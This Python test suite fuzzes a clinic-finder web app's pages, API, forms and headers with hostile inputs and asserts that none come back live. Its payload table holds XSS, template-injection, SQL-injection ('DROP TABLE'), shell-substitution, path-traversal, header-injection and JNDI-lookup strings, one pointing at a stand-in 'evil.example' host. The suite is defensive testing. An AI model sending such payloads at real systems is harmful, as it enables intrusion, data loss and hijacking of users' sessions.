"""What strangers send: a table of requests, how each is answered, and that nothing of them comes back raw."""

from __future__ import annotations

import re
from typing import TYPE_CHECKING
from urllib.parse import quote

import lxml.html
import pytest
from conftest import ROOT, fixed_clock
from guards import check
from starlette.testclient import TestClient

from locator.publish.machine import machine_files
from locator.site.folder import SiteFolder
from locator.web.app import create_app
from locator.web.entrance.entrance import Entrance
from locator.web.live import Live

if TYPE_CHECKING:
    from httpx2 import Response

MARK = "qz7"  # in every text, to find it again
TEXTS = {
    "script": f"<script>{MARK}()</script>",
    "attribute": f'"><img src=x onerror={MARK}()>',
    "single quotes": f"' autofocus onfocus='{MARK}()",
    "an end of JSON": f"</script><!--{MARK}",
    "a template": "{{7*191}}${7*191}#{7*191}<%= 7*191 %>{%25 debug %25}" + MARK,
    "a template's insides": "{{ self._TemplateReference__context }}" + MARK,
    "an expression": f"${{jndi:ldap://evil.example/{MARK}}}",
    "SQL": f"'; DROP TABLE clinics; -- {MARK}",
    "a wildcard": f"%' OR 1=1 -- {MARK}",
    "a shell": f"$(touch {MARK}); `touch {MARK}`; | touch {MARK}",
    "a path": f"../../../../etc/passwd{MARK}",
    "a header": f"{MARK}\r\nSet-Cookie: evil=1\r\n\r\n<html>",
    "a header in Unicode": f"{MARK}\u560d\u560aSet-Cookie: evil=1",
    "NUL": f"{MARK}\0{MARK}",
    "control characters": "".join(map(chr, range(1, 32))) + MARK,
    "from right to left": f"\u202e{MARK}\u2066\u202a",
    "half a letter": f"{MARK}\ud800",
    "no letters": f"\u200b\ufeff\u00ad{MARK}",
    "many accents": "a" + "\u0301" * 400 + MARK,
    "wide letters": "ｓｃｒｉｐｔ" * 10 + MARK,
    "a formula": f"=HYPERLINK(1){MARK}",
    "digits of elsewhere": f"٣٢٧٤٦ {MARK}",
    "blanks": " " * 900 + MARK,
    "one word": MARK * 600,
    "brackets": "(" * 1_000 + MARK,
}
DANGEROUS = re.compile(r"javascript:|vbscript:|data:text", re.IGNORECASE)


@pytest.fixture(scope="module")
def client() -> TestClient:
    live = Live(SiteFolder(ROOT), environ={}, clock=fixed_clock, machine_files=machine_files)
    app = Entrance(create_app(live), live)
    return TestClient(
        app, base_url="https://clinics.example", follow_redirects=False, raise_server_exceptions=False
    )


def encoded(text: str) -> str:
    return quote(text.encode("utf-8", "surrogatepass"), safe="")


def check_harmless(response: Response) -> None:
    """No fault of ours; whatever is repeated is text."""
    check(response)
    assert response.status_code < 500, response.text[:200]
    assert "set-cookie" not in response.headers
    assert not response.headers.get("location", "/").startswith(("//", "/\\", "http"))
    assert str(7 * 191) not in response.text
    if not response.headers.get("content-type", "").startswith("text/html"):
        return
    document = lxml.html.document_fromstring(response.text)
    assert not document.xpath("//img|//iframe|//@*[starts-with(name(), 'on')]")
    for script in document.xpath("//script"):
        assert script.get("src", "").startswith("/static/") or script.get("type", "").startswith(
            "application/"
        )
    for address in document.xpath("//@href|//@src|//@action"):
        assert not DANGEROUS.match(address.strip()), address
    assert not [comment for comment in document.xpath("//comment()") if MARK in (comment.text or "")]


@pytest.mark.parametrize("name", TEXTS)
@pytest.mark.parametrize(
    "address",
    [
        *("/find?q={}", "/find?q=Lake+Mary&treatment={}", "/find?q=Lake+Mary&language={}&radius={}&page={}"),
        *("/find?q=Lake+Mary&{}=1", "/es/buscar?q={}", "/report?page={}", "/report?page=/clinics/{}"),
        *("/{}", "/{}/", "/clinics/{}/", "/back-pain-treatment/fl/{}/", "/static/{}", "/cards/{}.png"),
        *("/workbench/{}", "/workbench/sign-in?next={}", "/clinics/lake-mary/?{}"),
    ],
)
def test_a_page_takes_it_as_text(address: str, name: str, client: TestClient) -> None:
    check_harmless(client.get(address.replace("{}", encoded(TEXTS[name]))))


@pytest.mark.parametrize("name", TEXTS)
@pytest.mark.parametrize(
    "address",
    [
        *("/api/v1/nearest?q={}", "/api/v1/nearest?lat={}&lon={}", "/api/v1/nearest?q=32746&{}=1"),
        *("/api/v1/places?q={}", "/api/v1/clinics?after={}", "/api/v1/clinics/{}", "/api/v1/towns?region={}"),
        *("/api/v1/nearest?q=32746&insurance={}", "/api/v1/nearest?q=32746&open_at={}", "/api/v1/{}"),
    ],
)
def test_the_api_answers_in_json(address: str, name: str, client: TestClient) -> None:
    response = client.get(address.replace("{}", encoded(TEXTS[name])))
    check_harmless(response)
    assert response.status_code in (200, 404, 422)
    assert response.headers["content-type"] in ("application/json", "application/problem+json")
    assert response.json()


@pytest.mark.parametrize("name", TEXTS)
def test_a_form_takes_it_as_text(name: str, client: TestClient) -> None:
    text, origin = encoded(TEXTS[name]), {"origin": "https://clinics.example"}
    headers = origin | {"content-type": "application/x-www-form-urlencoded"}
    for path, body in (
        ("/find", f"q={text}"),
        ("/find", f"lat={text}&lon={text}"),
        ("/find", f"{text}={text}"),
        ("/report", f"page={text}&fault={text}&note={text}"),
        ("/report", f"page=/clinics/lake-mary/&fault={text}&note=<script>{text}"),
        ("/demand", f"kind={text}&page={text}"),
        ("/workbench/sign-in", f"name={text}&password={text}&next={text}"),
    ):
        check_harmless(client.post(path, content=body, headers=headers))


@pytest.mark.parametrize("name", ["script", "a template", "from right to left", "a shell"])
@pytest.mark.parametrize(
    "header", ["accept-language", "user-agent", "referer", "x-forwarded-host", "x-original-url"]
)
def test_a_header_comes_back_nowhere(header: str, name: str, client: TestClient) -> None:
    text = TEXTS[name].encode()
    for path in ("/", "/find?q=32746", "/no/such/", "/api/v1/places?q=day", "/clinics"):
        response = client.get(path, headers=[(header.encode(), text)])
        check_harmless(response)
        assert MARK not in f"{response.text}{response.headers}"


LARGE = {
    "a finder's text of 60 KB": ("GET", f"/find?q={'x' * 60_000}", None, 414),
    "an API's text of 60 KB": ("GET", f"/api/v1/nearest?q={'x' * 60_000}", None, 414),
    "a thousand questions": ("GET", f"/find?{'q=x&' * 1_000}", None, 400),
    "a form of 1 MB": ("POST", "/find", b"q=" + b"x" * 1_000_000, 413),
    "a form of many fields": ("POST", "/find", b"a=&" * 2_000, 413),
    "a report of 1 MB": ("POST", "/report", b"note=" + b"x" * 1_000_000, 413),
    "a count of 1 MB": ("POST", "/demand", b"kind=" + b"x" * 1_000_000, 413),
}


@pytest.mark.parametrize("name", LARGE)
def test_what_is_large_is_refused(name: str, client: TestClient) -> None:
    method, path, body, status = LARGE[name]
    headers = {"origin": "https://clinics.example", "content-type": "application/x-www-form-urlencoded"}
    response = client.request(method, path, content=body, headers=headers)
    assert response.status_code == status
    check_harmless(response)


@pytest.mark.parametrize("method", ["TRACE", "TRACK", "CONNECT", "PROPFIND", "DEBUG", "BREW"])
def test_odd_methods_do_nothing(method: str, client: TestClient) -> None:
    response = client.request(method, "/clinics/")
    assert response.status_code == 405
    check_harmless(response)
